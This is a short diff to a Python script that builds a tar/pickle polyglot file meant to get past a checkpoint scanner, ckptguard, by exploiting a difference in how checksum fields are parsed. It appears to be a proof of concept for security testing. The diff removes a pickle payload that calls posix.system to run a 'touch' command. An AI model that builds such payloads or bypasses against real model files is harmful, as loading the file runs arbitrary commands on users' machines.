@@ -10,12 +10,10 @@ ckptguard's DetectArchive/TarChecksumOk accepts only octal digits in the checksu
 is never seen as a tar; Python's tarfile.nti reads the field with int(s, 8), which accepts "0o".
 Usage: tar_legacy_polyglot.py OUT MARKER"""
 import sys, struct
-from tarblocks import header as tar_header
+from tarblocks import header as tar_header, payload
 
 MAGIC = b'\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19.'
 PROTO = b'\x80\x02M\xe9\x03.'
-def payload(marker):
-    return b"cposix\nsystem\n(S'touch " + marker.encode() + b"'\ntR."
 def s(x): return b'X' + struct.pack('<I', len(x)) + x
 def build(marker):
     pay = payload(marker)
